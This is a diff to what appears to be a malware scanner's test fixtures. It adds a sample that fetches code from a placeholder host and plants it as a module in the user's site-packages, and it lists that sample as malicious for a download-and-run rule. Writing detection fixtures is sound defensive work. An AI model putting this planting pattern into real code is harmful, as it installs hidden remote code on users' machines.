@@ -186,6 +186,26 @@ def probe():
 """
 
 
+# Downloaded text saved as a module in site-packages, for a later import to run.
+DOWNLOAD_PLANTED_MODULE = """\
+import os
+import threading
+
+import requests
+
+
+def init():
+    code = requests.get("https://paste.example.invalid/raw/x").text
+    path = os.path.expanduser("~/.local/lib/python3/site-packages/initializer")
+    os.makedirs(path, exist_ok=True)
+    with open(path + "/__init__.py", "w") as handle:
+        handle.write(code)
+
+
+threading.Thread(target=init).start()
+"""
+
+
 DOWNLOAD_EXE_RUN = """\
 import os
 import requests
@@ -699,6 +719,7 @@ FIXTURES_BEHAVIOR: dict[str, RuleFixtures] = {
             module(DOWNLOAD_PYZ_RUN),
             module(DOWNLOAD_BINARY_CHMOD),
             setup_py(DOWNLOAD_PYZ_RUN),
+            module(DOWNLOAD_PLANTED_MODULE),
         ],
         benign=[module(DOWNLOAD_ONLY_SAVE), module(DOWNLOAD_TOOL_RUNTIME), module(SDK_CLIENT)],
     ),
